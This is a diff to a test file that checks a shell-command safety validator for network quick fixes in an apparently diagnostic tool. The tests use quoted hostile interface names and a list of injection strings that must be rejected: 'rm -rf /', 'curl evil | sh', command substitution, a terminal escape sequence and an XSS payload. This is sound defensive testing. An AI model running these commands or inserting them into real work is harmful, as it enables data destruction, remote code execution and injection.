@@ -65,13 +65,18 @@ describe('quick fixes', () => {
       ]),
     ).toBe(true);
     expect(isSafeToRun(['ip link set flannel.1 up'])).toBe(true);
+    // Single-quoted as fixes.ts quotes a hostile name: one literal word to the shell.
+    expect(isSafeToRun(["ip link set 'flannel.1;reboot' up", `ip link set 'it'\\''s' up`])).toBe(true);
     for (const bad of [
       'ip link set x; rm -rf /',
       'ip link set `reboot` up',
       'ip link set $(reboot) up',
       'ip link set x up && curl evil | sh',
       'ip link set x up > /etc/passwd',
-      "ip link set 'x y' up",
+      "ip link set 'x' y' up",
+      "ip link set 'x\ny' up",
+      "ip link set 'x\u001b]52;c;eA==\u0007' up",
+      'ip link set "$(reboot)" up',
       'rm -rf /',
       'ip link set x\nreboot',
       'ip link set <img/src=x/onerror=alert(1)> up',
@@ -81,7 +86,7 @@ describe('quick fixes', () => {
     expect(isSafeToRun([])).toBe(false);
   });
 
-  it('copies but never runs a fix built from a hostile interface name', async () => {
+  it('quotes a hostile interface name in every command it offers', () => {
     const ws = workspaceOf([]);
     ws.set(
       'evil',
@@ -99,19 +104,9 @@ describe('quick fixes', () => {
       'evil.netsnap',
     );
     const actions = ws.analysis().findings.flatMap((f) => fixActions(ws, 'evil', f.line));
-    const hostile = actions.filter((a) => a.commands.some((c) => c.includes(';')));
-    expect(hostile.length).toBeGreaterThan(0);
-    expect(hostile.every((a) => a.kind === 'copy')).toBe(true);
-    // Asked to run it anyway (a stale or forged quick fix): a warning, and no terminal.
-    const warnings: string[] = [];
-    let ran = false;
-    const outcome = await runFix(ws, hostile[0]?.ref, {
-      trusted: true,
-      warn: (m) => warnings.push(m),
-      confirm: () => Promise.resolve(true),
-      run: () => (ran = true),
-    });
-    expect([outcome, ran, warnings.length]).toEqual(['unsafe', false, 1]);
+    const commands = actions.flatMap((a) => a.commands);
+    expect(commands).toContain("ip link set 'flannel.1;reboot' up");
+    expect(commands.every((c) => !c.includes(';') || c.includes("'flannel.1;reboot'"))).toBe(true);
   });
 
   describe('running a fix', () => {
